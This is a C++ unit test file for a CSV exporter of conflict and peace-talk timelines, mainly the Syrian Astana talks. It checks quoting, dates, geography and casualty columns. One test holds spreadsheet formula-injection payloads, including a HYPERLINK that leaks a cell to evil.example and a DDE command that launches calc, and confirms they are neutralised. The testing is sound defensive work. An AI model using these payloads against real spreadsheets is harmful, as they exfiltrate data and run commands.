// parley/render/csv.hpp: RFC 4180 records with ACLED-like columns, read back
// field by field with a parser written here from the RFC.
#include <sstream>
#include <string>
#include <vector>

#include <doctest/doctest.h>

#include "parley/error.hpp"
#include "parley/payload.hpp"
#include "parley/render/csv.hpp"

#include "render_support.hpp"

namespace {

using Record = std::vector<std::string>;

// RFC 4180 §2: records end with CRLF; a quoted field may hold commas, CRLF
// and doubled quotes. Fails the test on anything else (a bare LF, a quote
// inside an unquoted field).
std::vector<Record> parse_csv(const std::string& text) {
  std::vector<Record> records;
  Record record;
  std::string field;
  bool quoted = false;
  bool was_quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      if (!field.empty()) FAIL("quote inside an unquoted field");
      quoted = was_quoted = true;
    } else if (c == ',') {
      record.push_back(field);
      field.clear();
      was_quoted = false;
    } else if (c == '\r') {
      if (i + 1 >= text.size() || text[i + 1] != '\n') FAIL("CR without LF");
      record.push_back(field);
      records.push_back(record);
      record.clear();
      field.clear();
      was_quoted = false;
      ++i;
    } else {
      if (c == '\n') FAIL("LF without CR ends a record");
      field += c;
    }
  }
  REQUIRE_MESSAGE(!quoted, "unterminated quoted field");
  REQUIRE_MESSAGE((field.empty() && record.empty() && !was_quoted),
                  "the last record must end with CRLF");
  return records;
}

std::vector<Record> render(const parley::Timeline& t,
                           const parley::RenderOptions& options = {}) {
  std::ostringstream out;
  parley::write_csv(t, out, options);
  return parse_csv(out.str());
}

// The fields of the row of `id`, by column name.
std::map<std::string, std::string> row_of(const std::vector<Record>& records,
                                          const std::string& id) {
  for (const Record& r : records) {
    if (r[0] != id) continue;
    std::map<std::string, std::string> out;
    for (std::size_t i = 0; i < records[0].size(); ++i) {
      out[records[0][i]] = r.at(i);
    }
    return out;
  }
  FAIL("no row for " << id);
  return {};
}

nlohmann::json json_entry(const char* array, const std::string& id) {
  nlohmann::json found;
  const nlohmann::json document = parley::test::astana_json();
  for (const auto& e : document[array]) {
    if (e["id"] == id) found = e;  // the last version wins
  }
  REQUIRE(!found.is_null());
  return found;
}

}  // namespace

TEST_CASE("csv: the documented columns, one row per event, same width") {
  const auto t = parley::test::astana_timeline();
  const auto records = render(t);
  const Record header = {"event_id",
                         "event_date",
                         "time_precision",
                         "edtf",
                         "earliest_start",
                         "latest_end",
                         "kind",
                         "plover",
                         "status",
                         "planned",
                         "slip",
                         "title",
                         "actor1",
                         "actor2",
                         "assoc_actors",
                         "place",
                         "country",
                         "admin1",
                         "location",
                         "latitude",
                         "longitude",
                         "process",
                         "topics",
                         "claims",
                         "source",
                         "deaths_low",
                         "deaths_best",
                         "deaths_high",
                         "place_path",
                         "start_precision",
                         "end_precision",
                         "actor_roles",
                         "deaths_side_a",
                         "deaths_side_b",
                         "deaths_civilians",
                         "deaths_unknown",
                         "dataset",
                         "external_id",
                         "release",
                         "time_of_day",
                         "time_utc"};
  REQUIRE(records.size() == t.events.size() + 1);
  CHECK(records[0] == header);
  for (std::size_t i = 1; i < records.size(); ++i) {
    CHECK(records[i].size() == header.size());
    CHECK(records[i][0] == t.events[i - 1].id.value);  // chronological
  }
}

TEST_CASE("csv: the Astana round's fields come from the data") {
  const auto records = render(parley::test::astana_timeline());
  const auto event = json_entry("events", "event:astana-2");
  const auto astana_place = json_entry("places", "place:astana");
  const auto row = row_of(records, "event:astana-2");
  CHECK(row.at("event_date") == event["time"]);
  CHECK(row.at("earliest_start") == event["time"]);
  CHECK(row.at("latest_end") == event["time"]);  // inclusive: the same day
  CHECK(row.at("edtf") == event["time"]);
  CHECK(row.at("planned") == event["planned"]);
  CHECK(row.at("status") == event["status"]);
  CHECK(row.at("kind") == event["kind"]);
  CHECK(row.at("plover") == "CONSULT");
  CHECK(row.at("time_precision") == "1");
  CHECK(row.at("title") == event["title"]["en"]);
  CHECK(row.at("place") == astana_place["names"]["en"]);
  CHECK(row.at("country") == "Kazakhstan");
  CHECK(row.at("admin1") == "");
  CHECK(row.at("location") == astana_place["names"]["en"]);
  CHECK(std::stod(row.at("latitude")) ==
        doctest::Approx(astana_place["coordinates"]["lat"].get<double>()));
  CHECK(std::stod(row.at("longitude")) ==
        doctest::Approx(astana_place["coordinates"]["lon"].get<double>()));
  // Parties first: the two delegations, then mediators and the host.
  CHECK(row.at("actor1") == "Armed opposition delegation");
  CHECK(row.at("actor2") == "Syrian government delegation");
  CHECK(row.at("assoc_actors") == "Russia; Turkey; Kazakhstan");
  CHECK(row.at("process") == "Astana talks");
  CHECK(row.at("topics") == "ceasefire");
}

TEST_CASE("csv: admin chain, ancestors' coordinates and imprecise dates") {
  const auto records = render(parley::test::astana_timeline());
  const auto ghouta = row_of(records, "event:ghouta-siege");
  CHECK(ghouta.at("country") == "Syria");
  CHECK(ghouta.at("admin1") == "Rif Dimashq");
  CHECK(ghouta.at("location") == "Eastern Ghouta");

  // [..2017-02-16]: no earliest day, the last day known, precision 3.
  const auto moscow = row_of(records, "event:lavrov-de-mistura");
  CHECK(moscow.at("edtf") == "[..2017-02-16]");
  CHECK(moscow.at("event_date") == "");
  CHECK(moscow.at("earliest_start") == "");
  CHECK(moscow.at("latest_end") == "2017-02-16");
  CHECK(moscow.at("time_precision") == "3");

  // 2017-02-15/2017-02-16: two days, precision 2.
  const auto late = row_of(records, "event:opposition-late-arrival");
  CHECK(late.at("event_date") == "2017-02-15");
  CHECK(late.at("latest_end") == "2017-02-16");
  CHECK(late.at("time_precision") == "2");

  // A denial is kept as a denial, with the claimant's name.
  const auto committee = row_of(records, "event:ceasefire-committee-agreement");
  CHECK(committee.at("claims") == "Mohammed Alloush:denies");

  // No place: empty geography.
  const auto unsc = row_of(records, "event:unsc-2254");
  CHECK(unsc.at("place") == "");
  CHECK(unsc.at("latitude") == "");
}

TEST_CASE("csv: commas, quotes and newlines survive quoting") {
  parley::Timeline t;
  parley::Event e;
  e.id = parley::EventId{"event:x"};
  const std::string title = "He said \"no\", then\r\nleft; \"twice\"";
  e.title = {{"en", title}};
  e.time = parley::Edtf::parse("2017-02");
  e.topics = {"a,b", "c"};
  t.events.push_back(e);

  std::ostringstream out;
  parley::write_csv(t, out);
  CHECK(out.str().find("\"He said \"\"no\"\", then\r\nleft; "
                       "\"\"twice\"\"\"") != std::string::npos);
  const auto records = parse_csv(out.str());
  REQUIRE(records.size() == 2);
  const auto row = row_of(records, "event:x");
  CHECK(row.at("title") == title);
  CHECK(row.at("topics") == "a,b; c");
  CHECK(row.at("event_date") == "2017-02-01");
  CHECK(row.at("latest_end") == "2017-02-28");
  CHECK(row.at("time_precision") == "3");
}

TEST_CASE("csv: Arabic titles and names are written intact") {
  parley::RenderOptions options;
  options.lang = "ar";
  const auto records = render(parley::test::astana_timeline(), options);
  const auto event = json_entry("events", "event:astana-2");
  const auto row = row_of(records, "event:astana-2");
  CHECK(row.at("title") == event["title"]["ar"]);
  CHECK(row.at("place") == json_entry("places", "place:astana")["names"]["ar"]);
  // A title with no Arabic falls back to English.
  CHECK(row_of(records, "event:astana-2-session-1").at("title") ==
        json_entry("events", "event:astana-2-session-1")["title"]["en"]);
}

TEST_CASE("csv: a failed stream is an io error") {
  std::ostringstream out;
  out.setstate(std::ios::badbit);
  try {
    parley::write_csv(parley::test::astana_timeline(), out);
    FAIL("expected parley::Error");
  } catch (const parley::Error& e) {
    CHECK(e.code() == parley::Errc::io);
  }
}

namespace {

// One event titled `title`, at a place west of Greenwich and south of the
// equator, with a claim from a source published by `publisher`.
parley::Timeline hostile_csv(const std::string& title,
                             const std::string& publisher) {
  parley::Timeline t;
  parley::Place place;
  place.id = parley::PlaceId{"place:x"};
  place.kind = parley::PlaceKind::city;
  place.names = {{"en", "Somewhere"}};
  place.coordinates = parley::Coordinates{-12.5, -0.25};
  t.places[place.id] = place;
  parley::Source source;
  source.id = parley::SourceId{"source:x"};
  source.publisher = publisher;
  t.sources[source.id] = source;
  parley::Event e = parley::test::make_event("event:x", "2017-02-16", title);
  e.place = place.id;
  t.events.push_back(e);
  parley::Claim claim;
  claim.id = parley::ClaimId{"claim:x"};
  claim.event = e.id;
  claim.source = source.id;
  t.claims.push_back(claim);
  return t;
}

}  // namespace

TEST_CASE("csv: cells a spreadsheet would run as formulas start with '") {
  const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  for (const std::string& title :
       {link, std::string("@SUM(1+1)"), std::string("-2+3"), std::string("+1"),
        std::string("\tindented"), std::string("\rreturn")}) {
    CAPTURE(title);
    const auto row = row_of(render(hostile_csv(title, "Daily")), "event:x");
    CHECK(row.at("title") == "'" + title);
  }
  // A source's name reaches the `source` column: guarded too.
  const auto row =
      row_of(render(hostile_csv("Talks", "=cmd|' /C calc'!A0")), "event:x");
  CHECK(row.at("source") == "'=cmd|' /C calc'!A0");
  CHECK(row.at("title") == "Talks");  // ordinary text is untouched
}

TEST_CASE("csv: numeric columns stay numbers, negative ones included") {
  const auto row = row_of(render(hostile_csv("Talks", "Daily")), "event:x");
  CHECK(row.at("latitude") == "-12.5");
  CHECK(row.at("longitude") == "-0.25");
  CHECK(row.at("time_precision") == "1");
}

TEST_CASE("csv: csv_raw writes every cell as stored") {
  parley::RenderOptions raw;
  raw.csv_raw = true;
  const std::string title = "@SUM(1+1) \u202Eevil";
  const auto row = row_of(render(hostile_csv(title, "-Daily"), raw), "event:x");
  CHECK(row.at("title") == title);
  CHECK(row.at("source") == "-Daily");
}

TEST_CASE("csv: bidi controls are shown escaped, not applied") {
  // "abc" then RIGHT-TO-LEFT OVERRIDE: without escaping, the text after it
  // in the row would display reversed.
  const auto row = row_of(
      render(hostile_csv("abc\u202Edef\u2066x\u2069", "Daily")), "event:x");
  CHECK(row.at("title") == "abc<U+202E>def<U+2066>x<U+2069>");
}

TEST_CASE("csv: deaths low/best/high of hostilities, empty elsewhere") {
  parley::Timeline t;
  parley::Hostilities strike;
  strike.kind = parley::HostilityKind::air_strike;
  strike.deaths = {2, 4, 7};
  t.events.push_back(parley::test::make_event("event:strike", "2016-03-01",
                                              "Air strike", strike));
  parley::Hostilities best_only;
  best_only.deaths.best = 0;  // a known zero is not "unknown"
  t.events.push_back(parley::test::make_event("event:zero", "2016-03-02",
                                              "No deaths", best_only));
  t.events.push_back(parley::test::make_event("event:talks", "2016-03-03"));
  const auto records = render(t);
  const auto strike_row = row_of(records, "event:strike");
  CHECK(strike_row.at("deaths_low") == "2");
  CHECK(strike_row.at("deaths_best") == "4");
  CHECK(strike_row.at("deaths_high") == "7");
  const auto zero = row_of(records, "event:zero");
  CHECK(zero.at("deaths_low") == "");
  CHECK(zero.at("deaths_best") == "0");
  CHECK(zero.at("deaths_high") == "");
  const auto talks = row_of(records, "event:talks");
  CHECK(talks.at("deaths_best") == "");
}

TEST_CASE("csv: the place path country first, precisions, actors with roles") {
  const auto records = render(parley::test::astana_timeline());
  // The path from the data: follow the parents of the event's place.
  const auto ghouta = json_entry("events", "event:ghouta-siege");
  std::vector<std::string> names;
  for (auto place = json_entry("places", ghouta["place"].get<std::string>());;
       place = json_entry("places", place["parent"].get<std::string>())) {
    names.insert(names.begin(), place["names"]["en"].get<std::string>());
    if (!place.contains("parent")) break;
  }
  REQUIRE(names.size() == 3);
  CHECK(row_of(records, "event:ghouta-siege").at("place_path") ==
        names[0] + " > " + names[1] + " > " + names[2]);
  CHECK(row_of(records, "event:unsc-2254").at("place_path") == "");

  const auto round = row_of(records, "event:astana-2");
  CHECK(round.at("start_precision") == "day");
  CHECK(round.at("end_precision") == "day");
  // Every participant as "name (role)", in the data's order.
  std::string roles;
  const auto round_json = json_entry("events", "event:astana-2");
  for (const auto& p : round_json["participants"]) {
    if (!roles.empty()) roles += "; ";
    roles += json_entry("actors", p["actor"].get<std::string>())["names"]["en"]
                 .get<std::string>() +
             " (" + p["role"].get<std::string>() + ")";
  }
  CHECK(round.at("actor_roles") == roles);
  // An actor named only in the payload has the payload's role.
  const auto shelling = row_of(records, "event:government-shelling");
  CHECK(shelling.at("actor_roles") ==
        json_entry("actors", "actor:syrian-government")["names"]["en"]
                .get<std::string>() +
            " (perpetrator)");
}

TEST_CASE("csv: start and end precision of imprecise values") {
  parley::Timeline t;
  t.events.push_back(parley::test::make_event("event:month", "2017-02"));
  t.events.push_back(parley::test::make_event("event:span", "2016/2017-03-04"));
  const auto records = render(t);
  CHECK(row_of(records, "event:month").at("start_precision") == "month");
  CHECK(row_of(records, "event:month").at("end_precision") == "month");
  CHECK(row_of(records, "event:span").at("start_precision") == "year");
  CHECK(row_of(records, "event:span").at("end_precision") == "day");
}

TEST_CASE("csv: a clock time in its zone and in UTC") {
  const auto row = row_of(render(parley::test::astana_timeline()),
                          "event:astana-2-session-1");
  CHECK(row.at("time_of_day") == "06:00-12:00 Asia/Almaty");
  // Almaty kept UTC+6 all year in 2017.
  CHECK(row.at("time_utc") == "2017-02-16T00:00Z/2017-02-16T06:00Z");
  const auto round =
      row_of(render(parley::test::astana_timeline()), "event:astana-2");
  CHECK(round.at("time_of_day").empty());
  CHECK(round.at("time_utc").empty());
}

TEST_CASE("csv: an imported row's dataset, release and deaths by side") {
  parley::Timeline t;
  parley::Hostilities clash;
  clash.deaths = {.low = 3,
                  .best = 5,
                  .high = 9,
                  .side_a = 2,
                  .side_b = 0,
                  .civilians = 3,
                  .unknown = std::nullopt};
  auto e = parley::test::make_event("event:ucdp-1", "2017-02-16", "", clash);
  e.external = parley::ExternalRef{"ucdp", "214797", "19.1"};
  t.events.push_back(e);
  const auto row = row_of(render(t), "event:ucdp-1");
  CHECK(row.at("dataset") == "ucdp");
  CHECK(row.at("external_id") == "ucdp:214797");
  CHECK(row.at("release") == "19.1");
  CHECK(row.at("deaths_best") == "5");
  CHECK(row.at("deaths_side_a") == "2");
  CHECK(row.at("deaths_side_b") == "0");
  CHECK(row.at("deaths_civilians") == "3");
  CHECK(row.at("deaths_unknown") == "");
}
